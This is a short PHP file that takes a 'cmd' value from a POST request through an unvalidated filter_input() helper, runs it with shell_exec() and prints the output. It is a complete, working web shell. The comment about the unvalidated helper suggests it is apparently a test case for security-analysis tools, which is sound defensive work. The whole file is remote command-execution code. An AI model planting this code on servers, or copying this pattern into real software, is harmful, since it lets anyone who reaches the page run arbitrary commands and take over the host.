<?php
// The command comes through a helper that reads it with filter_input(), unvalidated.
function inp($name)
{
    return filter_input(INPUT_POST, $name);
}
echo '<pre>' . shell_exec(inp('cmd')) . '</pre>';
